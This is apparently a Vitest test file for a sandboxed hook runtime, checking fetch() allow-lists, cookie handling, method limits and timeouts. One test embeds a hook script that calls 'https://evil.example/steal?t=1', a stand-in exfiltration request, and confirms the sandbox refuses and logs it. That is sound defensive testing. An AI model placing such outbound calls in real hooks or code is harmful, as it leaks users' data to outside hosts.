import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { HookError } from "../../../runtime/hooks/errors.ts";
import { allowedHostSet } from "../../../runtime/hooks/fetch-policy.ts";
import type { HookSandbox } from "../../../runtime/hooks/sandbox.ts";
import { sendHttp } from "../../../runtime/http/client.ts";
import { type MockServer, serveMock } from "../../support/mocks/http-mock.ts";
import { captureLog, sandboxFor } from "./support.ts";

let sandbox: HookSandbox | undefined;
let mock: MockServer | undefined;
let hanging: Server | undefined;
afterEach(async () => {
  await sandbox?.close();
  await mock?.close();
  hanging?.closeAllConnections();
  await new Promise((resolve) => (hanging ? hanging.close(resolve) : resolve(undefined)));
  sandbox = mock = hanging = undefined;
});

async function loginMock(): Promise<MockServer> {
  return serveMock({ requestId: () => "r" }, (request) =>
    request.url.pathname === "/login" && JSON.parse(request.body || "{}").code === "pat-1"
      ? {
          status: 200,
          body: { ok: true },
          headers: { "set-cookie": ["session=abc; Path=/; HttpOnly", "other=1"] },
        }
      : { status: 401, body: { error: "bad code" } },
  );
}

const network = (hosts: readonly string[]) => ({
  fetch: { send: sendHttp, allowedHosts: allowedHostSet(hosts) },
});

describe("fetch() in hooks", () => {
  it("awaits a host fetch inside the hook: method, headers and body go out, status, headers and JSON come back", async () => {
    mock = await loginMock();
    sandbox = await sandboxFor(
      [
        "async function getAuth(ctx) {",
        "  const res = await fetch(ctx.base + '/login', {",
        "    method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Trace': 't1' },",
        "    body: JSON.stringify({ code: 'pat-1' }),",
        "  });",
        "  const data = await res.json();",
        "  return { cookie: res.headers.get('Set-Cookie').split(';')[0], headers: { 'X-Status': String(res.status), 'X-Ok': String(res.ok && data.ok), 'X-Cookies': String(res.headers.getSetCookie().length) } };",
        "}",
      ].join("\n"),
      network(["127.0.0.1"]),
    );
    expect(await sandbox.call("getAuth", [{ base: mock.url }])).toEqual({
      cookie: "session=abc",
      headers: { "X-Status": "200", "X-Ok": "true", "X-Cookies": "2" },
    });
    expect(mock.requests).toHaveLength(1);
    expect(mock.requests[0]).toMatchObject({ method: "POST", path: "/login", body: '{"code":"pat-1"}' });
    expect(mock.requests[0]?.headers).toMatchObject({ "content-type": "application/json", "x-trace": "t1" });
  });

  it("chains several fetches in one call and reads a non-2xx answer as text", async () => {
    mock = await loginMock();
    sandbox = await sandboxFor(
      "async function getAuth(ctx) { const a = await fetch(ctx.base + '/login'); const b = await fetch(ctx.base + '/x'); return { cookie: a.status + ':' + b.status + ':' + (await b.text()) }; }",
      network(["127.0.0.1"]),
    );
    expect(await sandbox.call("getAuth", [{ base: mock.url }])).toEqual({
      cookie: '401:401:{"error":"bad code"}',
    });
  });

  it("rejects a fetch to a host outside the allowed set inside the script, and logs it", async () => {
    const { log, lines } = captureLog();
    sandbox = await sandboxFor(
      [
        "async function getAuth() {",
        "  try { await fetch('https://evil.example/steal?t=1'); return null; }",
        "  catch (e) { return { cookie: e.name + ': ' + e.message }; }",
        "}",
        "async function buildRequest() { await fetch('https://evil.example/'); }",
      ].join("\n"),
      { ...network(["api.example.com", "*.okta.com"]), log },
    );
    expect(await sandbox.call("getAuth", [{}])).toEqual({
      cookie:
        "TypeError: fetch: host evil.example is not allowed for this source (allowed: *.okta.com, api.example.com; hooks.allow_hosts widens it)",
    });
    const refused = lines().filter((l) => String(l.msg).startsWith("hook fetch refused"));
    expect(refused.map((l) => [l.level, l.hook, l.host])).toEqual([[40, "getAuth", "evil.example"]]);
    // Uncaught, it fails the call at the script line of the fetch.
    const error = (await sandbox.call("buildRequest", [{}]).catch((e: unknown) => e)) as HookError;
    expect(error).toBeInstanceOf(HookError);
    expect(error.code).toBe("HELR_HOOK_ERROR");
    expect(error.message).toContain("threw TypeError: fetch: host evil.example is not allowed");
    expect(error.location?.line).toBe(5);
  });

  it("refuses methods other than GET and POST, and non-string bodies", async () => {
    sandbox = await sandboxFor(
      "async function getAuth(ctx) { const out = []; for (const init of [{ method: 'DELETE' }, { method: 'POST', body: { a: 1 } }]) { try { await fetch(ctx.url, init); } catch (e) { out.push(e.message); } } return { cookie: out.join(' | ') }; }",
      network(["127.0.0.1"]),
    );
    expect(await sandbox.call("getAuth", [{ url: "http://127.0.0.1:9/" }])).toEqual({
      cookie:
        "fetch: method DELETE is not supported in hooks (GET or POST) | fetch: the body must be a string (use JSON.stringify for JSON)",
    });
  });

  it("has no fetch without allow_network", async () => {
    sandbox = await sandboxFor(
      "function getAuth() { return { cookie: typeof fetch + ',' + typeof Headers }; }",
    );
    expect(await sandbox.call("getAuth", [{}])).toEqual({ cookie: "undefined,undefined" });
  });

  it("keeps the call's deadline while a fetch is awaited, and the next call works", async () => {
    let answer = false;
    hanging = createServer((_req, res) => {
      if (answer) res.end("late but fine");
    });
    await new Promise<void>((resolve) => hanging?.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(hanging.address() as AddressInfo).port}/`;
    sandbox = await sandboxFor(
      "async function getAuth(ctx) { const res = await fetch(ctx.url); return { cookie: await res.text() }; }",
      network(["127.0.0.1"]),
    );
    const error = (await sandbox.call("getAuth", [{ url }]).catch((e: unknown) => e)) as HookError;
    expect(error.code).toBe("HELR_HOOK_TIMEOUT");
    expect(error.hook).toBe("getAuth");
    answer = true;
    expect(await sandbox.call("getAuth", [{ url }])).toEqual({ cookie: "late but fine" });
  });
});
